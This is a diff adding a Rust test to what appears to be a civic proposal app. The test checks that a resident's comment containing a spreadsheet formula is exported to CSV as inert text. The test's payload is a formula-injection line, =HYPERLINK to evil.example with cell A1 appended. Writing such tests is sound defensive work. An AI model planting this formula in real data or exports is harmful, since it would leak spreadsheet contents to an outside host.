@@ -133,3 +133,41 @@ async fn the_atom_feed_announces_decisions_with_their_hashes() {
     assert!(feed.body.contains(&newest_decision.hash));
     app.db.remove().await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_formula_written_by_a_resident_reaches_the_csv_as_text() {
+    let app = TestApp::with_demo().await;
+    let query =
+        domain::ProposalQuery::parse(None, Some("deliberation"), None, None, None, None).unwrap();
+    let id = db::proposals_page(&app.db.conn, &query)
+        .await
+        .unwrap()
+        .items[0]
+        .id
+        .to_string();
+    let resident = app
+        .sign_in(db::demo::DEMO_ACCOUNTS[3].0, db::demo::DEMO_ACCOUNTS[3].1)
+        .await;
+    let attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Voir\")";
+    let posted = app
+        .call(
+            "proposal/comment",
+            &[("proposal_id", &id), ("stance", "pour"), ("body", attack)],
+            &resident,
+        )
+        .await;
+    assert_eq!(posted.status, StatusCode::OK, "{}", posted.body);
+    let csv = app.get("/api/export/comments.csv", "").await;
+    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect();
+    assert!(cells.iter().any(|c| c == &format!("'{attack}")));
+    assert!(cells.iter().all(|c| !c.starts_with('=')));
+    // The JSON keeps the words as written.
+    let json = app.get("/api/export/comments.json", "").await;
+    let rows: Vec<serde_json::Value> = serde_json::from_str(&json.body).unwrap();
+    assert!(rows.iter().any(|r| r["body"] == attack));
+    app.db.remove().await;
+}
